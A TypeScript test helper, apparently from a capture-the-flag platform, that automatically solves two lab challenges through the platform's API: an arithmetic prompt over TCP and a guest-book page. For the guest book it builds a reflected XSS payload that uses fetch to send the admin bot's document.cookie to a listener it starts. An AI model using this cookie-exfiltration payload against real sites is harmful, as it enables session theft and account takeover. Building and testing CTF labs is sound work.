import { once } from 'node:events'
import { createServer } from 'node:http'
import { connect } from 'node:net'
import {
  listAdminBotJobs,
  readAdminBotJob,
  readAdminBotLogs,
  submitAdminBotJob,
} from '@pennant/contract/admin-bot.ts'
import type { Client } from '@pennant/contract/client.ts'
import { readInstance, startInstance, stopInstance } from '@pennant/contract/instances.ts'
import { submitFlag } from '@pennant/contract/submissions.ts'

// Solves the live examples as a player would: through the public API, the instance's ports and the bot's
// visit.

/** Includes pulling the image over a slow connection. */
const RUNNING_LIMIT_MS = 180_000
const VISIT_LIMIT_MS = 120_000
const POLL_MS = 100
/** Delay before retrying to start an instance. */
const RETRY_MS = 5_000
const LONGEST_TALK = 10_000

export interface Solver {
  readonly call: Client
  /** Auth token of the team. */
  readonly token: string
}

export interface Solved {
  readonly flag: string
  /** Time from the start request until the instance responded. */
  readonly startMs: number
  /** Time from submitting the link until the bot visited the page; null for challenges without a bot. */
  readonly visitMs: number | null
}

interface Place {
  readonly host: string
  readonly port: number
}

/** Answers the station's sums and submits the flag from its log book. */
export async function solveNumberStation(solver: Solver): Promise<Solved> {
  const id = 'number-station'
  const { place, startMs } = await start(solver, id)
  const talk = await answerSums(place)
  const flag = /flag\{[^}]+\}/.exec(talk)?.[0]
  if (flag === undefined) throw new Error(`the station said ${JSON.stringify(talk)}`)
  await submit(solver, id, flag)
  await solver.call(stopInstance, { token: solver.token, params: { id } })
  return { flag, startMs, visitMs: null }
}

/**
 * Sends the bot to a page whose script sends the cookie to the player's listener. The bot must be able to
 * reach `listenOn`.
 */
export async function solveGuestBook(solver: Solver, listenOn = '127.0.0.1'): Promise<Solved> {
  const id = 'guest-book'
  const { place, startMs } = await start(solver, id)
  const leak = await listen(listenOn)
  try {
    const script = `<script>fetch('${leak.url}?' + encodeURIComponent(document.cookie), { mode: 'no-cors' })</script>`
    const url = `http://${place.host}:${place.port}/guests.cgi?name=${encodeURIComponent(script)}`
    const began = Date.now()
    const { kind } = await solver.call(submitAdminBotJob, {
      token: solver.token,
      params: { id },
      body: { inputs: { url } },
    })
    if (kind !== 'goodAdminBotJobSubmitted') throw new Error(`the bot rejected the link: ${kind}`)
    const cookie = await Promise.race([leak.first, endOfVisit(solver, id)])
    const visitMs = Date.now() - began
    const flag = /flag=(flag\{[^}]+\})/.exec(cookie)?.[1]
    if (flag === undefined) throw new Error(`the visit returned ${JSON.stringify(cookie)}`)
    await submit(solver, id, flag)
    return { flag, startMs, visitMs }
  } finally {
    leak.close()
    await solver.call(stopInstance, { token: solver.token, params: { id } })
  }
}

async function start({ call, token }: Solver, id: string): Promise<{ place: Place; startMs: number }> {
  const began = Date.now()
  const started = await call(startInstance, { token, params: { id }, body: {} })
  if (started.kind !== 'goodInstanceStatus')
    throw new Error(`${id} does not start: ${JSON.stringify(started)}`)
  while (Date.now() - began < RUNNING_LIMIT_MS) {
    const state = await call(readInstance, { token, params: { id } })
    if (state.kind !== 'goodInstanceStatus') throw new Error(`${id}: ${JSON.stringify(state)}`)
    const [place] = state.data.endpoints
    if (state.data.status === 'errored') throw new Error(`${id} ended in an error`)
    // If the server was killed during a start, the slot stays taken for up to 90 s; the next request after that
    // starts the instance.
    if (state.data.status === 'stopped') {
      await call(startInstance, { token, params: { id }, body: {} })
      await pause(RETRY_MS)
    }
    if (state.data.status === 'running' && place && (await responds(place)))
      return { place, startMs: Date.now() - began }
    await pause(POLL_MS)
  }
  throw new Error(`${id} did not run within ${RUNNING_LIMIT_MS} ms`)
}

async function responds({ host, port }: Place): Promise<boolean> {
  const socket = connect(port, host)
  try {
    await once(socket, 'connect')
    return true
  } catch {
    return false
  } finally {
    socket.destroy()
  }
}

async function answerSums({ host, port }: Place): Promise<string> {
  const socket = connect(port, host)
  let talk = ''
  for await (const chunk of socket) {
    talk += String(chunk)
    if (talk.length > LONGEST_TALK) break
    const sum = /(\d+) \+ (\d+) = $/.exec(talk)
    if (sum) socket.write(`${Number(sum[1]) + Number(sum[2])}\n`)
  }
  return talk
}

async function submit({ call, token }: Solver, id: string, flag: string): Promise<void> {
  const { kind } = await call(submitFlag, { token, params: { id }, body: { flag } })
  if (kind !== 'goodFlag') throw new Error(`${flag} for ${id}: ${kind}`)
}

/** Resolves `first` to the decoded query of the first request that has one. */
async function listen(host: string) {
  const server = createServer()
  const first = new Promise<string>((resolve) => {
    server.on('request', ({ url = '' }, response) => {
      response.end()
      if (url.includes('?')) resolve(decodeURIComponent(url.slice(url.indexOf('?') + 1)))
    })
  })
  server.listen(0, host)
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' && address ? address.port : 0
  return { url: `http://${host}:${port}/`, first, close: () => void server.close() }
}

/**
 * Rejects with the log when the job ends without the expected visit. A job may end just before its visit is
 * noticed.
 */
async function endOfVisit({ call, token }: Solver, id: string): Promise<never> {
  const began = Date.now()
  while (Date.now() - began < VISIT_LIMIT_MS) {
    await pause(POLL_MS * 5)
    const { data } = await call(readAdminBotJob, { token, params: { id } })
    if (data && 'job' in data && data.job) continue
    const log = await lastLog({ call, token }, id)
    throw new Error(`the bot ended without handing out its cookie:\n${log}`)
  }
  throw new Error(`the bot did not end within ${VISIT_LIMIT_MS} ms`)
}

async function lastLog({ call, token }: Solver, id: string): Promise<string> {
  const history = await call(listAdminBotJobs, { token, params: { id } })
  const job = history.kind === 'goodAdminBotJobHistory' ? history.data.jobs[0] : undefined
  if (!job) return 'no job'
  const logs = await call(readAdminBotLogs, { token, params: { id, jobId: job.id } })
  return `${job.status}\n${logs.kind === 'goodAdminBotJobLogs' ? logs.data.logs : logs.kind}`
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => {
    setTimeout(resolve, ms)
  })
}
